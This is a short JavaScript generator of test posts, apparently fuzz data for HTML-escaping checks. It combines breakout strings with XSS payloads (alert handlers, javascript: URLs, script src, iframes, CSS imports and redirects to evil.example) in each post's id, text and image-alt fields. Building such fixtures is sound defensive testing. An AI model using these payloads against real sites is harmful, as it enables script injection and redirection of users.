// Writes posts as JSON Lines: 500 ways to break out of HTML in each field that a stranger fills.
const breakouts = ["", "\"", "'", "\">", "'>", "</p>", "</title>", "</style>", "</textarea>", "-->", "]]>", "`",
    "&quot;>", "%22%3E", "\u0000", "\u202e", "\\\"", "</q></mark></li>", "<!--", "\n\n"];
const payloads = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>", "<a href=javascript:alert(1)>x</a>", "onmouseover=alert(1) x=",
    "<body onload=alert(1)>", "<link rel=stylesheet href=https://evil.example/x.css>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<form action=https://evil.example><input autofocus>",
    "<style>@import 'https://evil.example/x.css';</style>", "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>", "<video src=https://evil.example/x.mp4 autoplay></video>",
    "<details open ontoggle=alert(1)>", "<math><mtext></p><img src=x onerror=alert(1)>", "<p style=position:fixed>",
    "javascript:alert(1)", "<script src=https://evil.example/x.js></script>", "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<h1>Title</h1>", "<div id=findings>"];
for (const breakout of breakouts) {
    for (const payload of payloads) {
        const evil = breakout + payload;
        process.stdout.write(JSON.stringify({
            id: "p " + evil,
            text: "CLICK HERE NOW TO READ IT " + evil + " #stateofemergency 🎉🎉🎉🎉 " + evil,
            platform: "x",
            media: [{ file: "a.jpg", alt: "image of " + evil }, { file: "b.jpg", alt: "" }],
        }) + "\n");
    }
}
